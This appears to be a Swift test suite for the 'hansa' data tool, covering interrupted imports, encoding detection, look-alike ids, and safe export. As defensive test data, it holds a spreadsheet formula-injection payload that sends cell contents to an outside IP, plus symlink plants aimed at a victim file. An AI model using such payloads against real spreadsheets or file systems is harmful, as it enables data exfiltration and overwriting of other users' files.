import Foundation
import Glibc
import TestSupport
import Testing

extension ProcessTests {
    /// Imported and exported files: their messages, cancelled imports and exports, and the output file.
    struct FileTests {
        private static let load = ["--kind", "need", "--key", "id"]

        private static func table(_ rows: Int) -> String {
            "id,name,note\n" + (1...rows).map { "R\($0),name \($0),some text for the record \($0)\n" }.joined()
        }

        private func text(_ file: String) -> String {
            String(decoding: FileManager.default.contents(atPath: file) ?? Data(), as: UTF8.self)
        }

        // MARK: - Cancellation

        /// Waits until an import has written something and is still running.
        private func awaitBeginning(of load: ChildProcess, in node: HansaProcess) throws {
            // The write-ahead log grows with the first batch, with a running or a stopped node.
            let log = node.folder + "/directory.sqlite-wal"
            func size() -> Int {
                ((try? FileManager.default.attributesOfItem(atPath: log))?[.size] as? NSNumber)?.intValue ?? 0
            }
            let before = size()
            #expect(eventually(seconds: 60, every: 2_000) { !load.isRunning || size() > before + 2_000_000 })
            try #require(load.isRunning)
        }

        @Test(arguments: [true, false], [SIGINT, SIGTERM])
        func `an import that is interrupted stops, tells what it has written, and is gone on with by the same command`(
            isRunning: Bool,
            signal: Int32
        ) throws {
            let cluster = try Cluster("Acme")
            let node = cluster[0]
            let rows = 60_000
            let file = try cluster.folder.file("large.csv", Self.table(rows))
            if !isRunning { #expect(node.stop() == 0) }
            let said = cluster.folder("said")
            let load = try node.begin(["import", file] + Self.load, output: said)
            try awaitBeginning(of: load, in: node)
            load.send(signal)
            #expect(load.wait(seconds: 60) == 128 + signal)
            let lines = text(said).split(separator: "\n").map(String.init)
            try #require(lines.count == 2, "\(lines)")
            #expect(lines[0].hasPrefix("hansa: interrupted; until then: "))
            #expect(lines[1] == "hansa: what was written is whole; the same command goes on from there")
            let digits = lines[0].dropFirst("hansa: interrupted; until then: ".count).prefix { $0 != " " }.filter {
                $0 != ","
            }
            let written = try #require(Int(digits))
            #expect(written > 0 && written < rows)
            // Nothing more is written, and the message named exactly the written rows.
            let sequences = try node.sequences()
            #expect(try node.records() == written + 1)
            let rest = try node.done(["import", file, "--json"] + Self.load).json
            #expect(rest.created.int == rows - written && rest.unchanged.int == written)
            #expect(try node.records() == rows + 1)
            #expect(try node.sequences().values.reduce(0, +) > sequences.values.reduce(0, +))
        }

        @Test(arguments: ["file", "pipe"])
        func `the import of a client that was killed ends in the node, and nothing of it is left lying`(from: String)
            throws
        {
            let cluster = try Cluster("Acme")
            let node = cluster[0]
            let rows = 100_000
            let file = try cluster.folder.file("large.csv", Self.table(rows))
            let load: ChildProcess
            if from == "file" {
                load = try node.begin(["import", file] + Self.load)
            } else {
                let pipe = cluster.folder("pipe")
                try #require(mkfifo(pipe, 0o600) == 0)
                load = try node.begin(["import", pipe, "--format", "csv"] + Self.load)
                let feeder = try ChildProcess("cp", [file, pipe], environment: ["PATH": "/usr/bin:/bin"])
                #expect(feeder.wait(seconds: 60) == 0)
            }
            try awaitBeginning(of: load, in: node)
            load.end()
            // The copy of a pipe is removed before the client ends.
            #expect((try? FileManager.default.contentsOfDirectory(atPath: node.folder + "/spool")) ?? [] == [])
            // The number of records stays below the number of rows.
            var (last, same) = (-1, 0)
            #expect(
                try eventually(seconds: 60) {
                    let records = try node.records()
                    same = records == last ? same + 1 : 0
                    last = records
                    return same >= 20
                }
            )
            #expect(last > 1 && last < rows + 1)
            #expect(try node.done("verify", "--deep", "--json").json.sound.bool == true)
        }

        @Test
        func `what has no end is refused at once, or with its client`() throws {
            let cluster = try Cluster("Acme")
            let node = cluster[0]
            for words in [["/dev/zero"], ["/dev/random"], [cluster.folder.path]] {
                let outcome = try node.command(["import"] + words + Self.load)
                #expect(outcome.code == 2 && outcome.seconds < 30, "\(outcome)")
                #expect(outcome.errors.contains("is a "), "\(outcome)")
            }
            let program = [HansaProcess.program, "import", "--data", node.folder, "-"] + Self.load
            let shell = program.map { "'\($0)'" }.joined(separator: " ") + " < /dev/zero"
            let outcome = try ChildProcess(
                "sh",
                ["-c", shell],
                environment: ["PATH": "/usr/bin:/bin", "XDG_RUNTIME_DIR": cluster.folder.runtime]
            )
            #expect(outcome.wait(seconds: 30) == 2)
            // A file of zeros, practically endless, needs no space and is read until the client leaves.
            let endless = cluster.folder("endless.csv")
            try Data().write(to: URL(fileURLWithPath: endless))
            try #require(truncate(endless, 1 << 42) == 0)
            let load = try node.begin(["import", endless] + Self.load)
            usleep(300_000)
            load.send(SIGINT)
            #expect(load.wait(seconds: 30) == 130)
            #expect(
                try node.done(
                    "import",
                    try cluster.folder.file("s.csv", Self.table(3)),
                    "--kind",
                    "need",
                    "--key",
                    "id"
                ).code == 0
            )
        }

        // MARK: - Messages

        @Test
        func `the encoding is told, and one in doubt is asked for`() throws {
            let cluster = try Cluster("Acme")
            let node = cluster[0]
            let zurich = Data(Array("id,name\nA,Werk Z".utf8) + [0xFC] + Array("rich\n".utf8))
            let file = try cluster.folder.file("west.csv", zurich)
            let doubted = try node.command(["import", file] + Self.load)
            #expect(doubted.code == 1)
            let told = doubted.errors.split(separator: "\n")
            let sentence =
                "hansa: the encoding of \(file) is in doubt at line 2; name the encoding in which it is right, as in --encoding windows-1252, "
            #expect(told.first?.hasPrefix(sentence) == true)
            // One line per encoding, without merged lines.
            #expect(told.count == 5 && told.contains("  Windows-1252  A,Werk Zürich"), "\(told)")
            #expect(try node.records() == 1)
            let said = try node.done(["import", file, "--encoding", "windows-1252"] + Self.load)
            #expect(said.output.contains("read as Windows-1252, as given"))
            #expect(try node.fields(of: "Acme/need/A")?["name/und"]?.string == "Werk Zürich")

            // GB18030: 北京大学 中国.
            let bytes: [UInt8] = [0xB1, 0xB1, 0xBE, 0xA9, 0xB4, 0xF3, 0xD1, 0xA7, 0x20, 0xD6, 0xD0, 0xB9, 0xFA]
            let chinese = try cluster.folder.file("cn.csv", Data(Array("id,name\nB,".utf8) + bytes + [0x0A]))
            let found = try node.done(["import", chinese] + Self.load)
            #expect(found.output.contains("read as GB18030, detected"))
            #expect(try node.fields(of: "Acme/need/B")?["name/und"]?.string == "北京大学 中国")
            let plain = try cluster.folder.file("plain.csv", "id,name\nC,c\n,\n , \n")
            let dry = try node.command(["import", plain, "--json", "--dry-run"] + Self.load).json
            #expect(dry.encoding.string == "UTF-8" && dry.encodingBy.string == "detected" && dry.blank.int == 2)
            let loaded = try node.done(["import", plain] + Self.load)
            #expect(loaded.output.contains("read as UTF-8, detected; 2 blank rows skipped"))
        }

        @Test
        func `an id that only looks like one that is held is refused, until that one is gone`() throws {
            let cluster = try Cluster("Acme")
            let node = cluster[0]
            func load(_ text: String) throws -> CommandOutcome {
                try node.command(["import", try cluster.folder.file("keys.csv", "id,name\n" + text)] + Self.load)
            }
            #expect(try load("P-1,pump\n\" P-2\",pump\nP-\u{E9},pump\n").code == 0)
            let before = try node.sequences()
            for (row, held) in [
                ("\"P-1 \"", "'P-1'"), ("P-1\u{A0}", "'P-1'"), ("P\u{200B}-1", "'P-1'"), ("P-2", "'⟨SPACE⟩P-2'"),
                ("\"P-2 \"", "'⟨SPACE⟩P-2'"), ("P-e\u{301}", "'P-\u{E9}'"),
            ] {
                let outcome = try load("X-1,new\n\(row),pump\n")
                #expect(outcome.code == 1, "\(row): \(outcome)")
                #expect(outcome.errors.contains("keys.csv:3:1: id: key-alike: "), "\(outcome)")
                #expect(outcome.errors.contains("looks like \(held), which is held"), "\(outcome)")
            }
            #expect(try node.sequences() == before)
            #expect(try node.command("edit", "Acme/need/P-1 ", "name=x", "--create").code == 4)
            // The same ids again, and others that look different.
            #expect(try load("P-1,pump\n\" P-2\",pump\np-1,pump\nP-11,pump\n").code == 0)
            try node.done("delete", "Acme/need/P-1")
            #expect(try load("\"P-1 \",pump\n").code == 0)
            // Ids of another kind are separate.
            let other = try cluster.folder.file("other.csv", "id,name\nP-2,pump\n")
            #expect(try node.command("import", other, "--kind", "resource", "--key", "id").code == 0)
        }

        // MARK: - Exports

        @Test
        func `a kind with more paths than a request may hold is exported, and the same again after an import`() throws {
            let cluster = try Cluster("Acme")
            let lines = (0..<200).map { row in
                let members = (0..<300).map { column in
                    let name =
                        "ext/a column of row \(row) that nobody else has, and that has a long name, no. \(column)"
                    return "\"\(name)\":\(column.isMultiple(of: 3) ? "\"=text \(column)\"" : "\(column)")"
                }
                return
                    "{\"id\":\"W\(row)\",\"name\":\"wide\",\"tags\":[\"a\",\"b;c\"],\(members.joined(separator: ","))}\n"
            }
            let file = try cluster.folder.file("wide.jsonl", lines.joined())
            try cluster[0].done(["import", file] + Self.load)
            let (first, second, guarded) = (cluster.folder("1.csv"), cluster.folder("2.csv"), cluster.folder("3.csv"))
            let export = ["export", "--kind", "need", "--format", "csv", "-o"]
            try cluster[0].done(export + [first])
            let other = cluster.node("other")
            try other.found(alliance: "Another", organization: "Acme")
            let key = ["--kind", "need", "--key", "localId", "--json"]
            #expect(try other.done(["import", first] + key).json.created.int == 200)
            try other.done(export + [second])
            #expect(FileManager.default.contentsEqual(atPath: first, andPath: second))
            try other.done(export + [guarded, "--excel"])
            #expect(!FileManager.default.contentsEqual(atPath: first, andPath: guarded))
            #expect(try other.done(["import", guarded] + key).json.unchanged.int == 200)
            #expect(text(first).split(separator: "\n").first?.split(separator: ",").last == "_more")
        }

        @Test
        func `an export for Excel computes nothing, and loads back to the same records`() throws {
            let cluster = try Cluster("Acme")
            let values = [
                "=HYPERLINK(\"http://198.51.100.7/?q=\"&A1,\"terms\")", "@SUM(2+2)", "-2+3", "-7", "-7.5",
                "+49 30 5550123",
                "\t=1", "'=1", "''+1", "=\"0012\"", "a=b", "'", " =1",
            ]
            let lines = values.enumerated().map { number, value in
                let escaped = value.replacingOccurrences(of: "\"", with: "\\\"").replacingOccurrences(
                    of: "\t",
                    with: "\\t"
                )
                return
                    "{\"id\":\"E\(number)\",\"name\":\"\(escaped)\",\"=cmd\":\"\(escaped)\",\"tags\":[\"\(escaped)\"]}\n"
            }
            let file = try cluster.folder.file("formulas.jsonl", lines.joined())
            try cluster[0].done(["import", file] + Self.load)
            let sheet = cluster.folder("sheet.csv")
            try cluster[0].done("export", "--kind", "need", "--format", "csv", "--excel", "-o", sheet)
            let cells = text(sheet).dropFirst().split(whereSeparator: { $0 == "," || $0 == "\n" })
                .map { $0.hasPrefix("\"") ? $0.dropFirst() : $0 }
            let computed = cells.filter { cell in
                guard let first = cell.unicodeScalars.first(where: { $0 != " " && $0 != "\t" }) else { return false }
                return "=+-@".unicodeScalars.contains(first) && Double(cell) == nil
            }
            #expect(computed == [])
            let words = ["import", sheet, "--kind", "need", "--key", "localId", "--json"]
            #expect(try cluster[0].done(words).json.unchanged.int == values.count)
            let other = cluster.node("other")
            try other.found(alliance: "Another", organization: "Acme")
            #expect(try other.done(words).json.created.int == values.count)
            #expect(try other.catalog("need") == cluster[0].catalog("need"))
        }

        @Test
        func `an export follows no link, and leaves nothing beside itself`() throws {
            let cluster = try Cluster("Acme")
            try cluster[0].done("edit", "Acme/need/x", "name=kept", "--create")
            let place = cluster.folder("place")
            try FileManager.default.createDirectory(atPath: place, withIntermediateDirectories: false)
            let victim = try cluster.folder.file("victim", "precious")
            // Another user with write access places links at the expected file names.
            for name in ["out.csv.part", "out.csv.new", "out.csv"] { #expect(symlink(victim, "\(place)/\(name)") == 0) }
            let export = ["export", "--kind", "need", "--format", "csv", "-o"]
            let mask = umask(0o027)
            defer { umask(mask) }
            try cluster[0].done(export + ["\(place)/out.csv"])
            #expect(text(victim) == "precious")
            #expect(text("\(place)/out.csv").contains("kept"))
            var status = stat()
            #expect(lstat("\(place)/out.csv", &status) == 0)
            #expect(status.st_mode & S_IFMT == S_IFREG && status.st_mode & 0o777 == 0o640)
            // A replaced file keeps its mode.
            #expect(chmod("\(place)/out.csv", 0o600) == 0)
            try cluster[0].done(export + ["\(place)/out.csv"])
            #expect(stat("\(place)/out.csv", &status) == 0 && status.st_mode & 0o777 == 0o600)
            let left = try FileManager.default.contentsOfDirectory(atPath: place).sorted()
            #expect(left == ["out.csv", "out.csv.new", "out.csv.part"])
            #expect(try cluster[0].command(export + [place]).code == 2)
            #expect(try cluster[0].command(export + ["/nowhere/out.csv"]).code == 2)

            // A pipe is written to, not replaced.
            let pipe = "\(place)/pipe"
            try #require(mkfifo(pipe, 0o600) == 0)
            let copied = cluster.folder("copied")
            let copy = try ChildProcess("cp", [pipe, copied], environment: ["PATH": "/usr/bin:/bin"])
            try cluster[0].done(export + [pipe])
            #expect(copy.wait(seconds: 30) == 0)
            #expect(lstat(pipe, &status) == 0 && status.st_mode & S_IFMT == S_IFIFO)
            #expect(text(copied).contains("kept"))
        }

        @Test
        func `settings and keys are not written through links`() throws {
            let folder = try TemporaryFolder()
            let node = HansaProcess(folder: folder("node"), runtime: folder.runtime)
            try FileManager.default.createDirectory(atPath: node.folder, withIntermediateDirectories: false)
            let victim = try folder.file("victim", "precious")
            let names = ["node.key", "organization.key", "config.json", "socket"]
            for name in names { #expect(symlink(victim, "\(node.folder)/\(name).new") == 0) }
            try node.found(organization: "Acme")
            // A lock that is a link is not accepted.
            #expect(rename("\(node.folder)/lock", "\(node.folder)/lock.old") == 0)
            #expect(symlink(victim, "\(node.folder)/lock") == 0)
            #expect(try node.command("status").code == 6)
            #expect(rename("\(node.folder)/lock.old", "\(node.folder)/lock") == 0)
            #expect(try node.start())
            #expect(text(victim) == "precious")
            var status = stat()
            for name in names {
                #expect(lstat("\(node.folder)/\(name)", &status) == 0 && status.st_mode & S_IFMT == S_IFREG, "\(name)")
            }
        }
    }
}
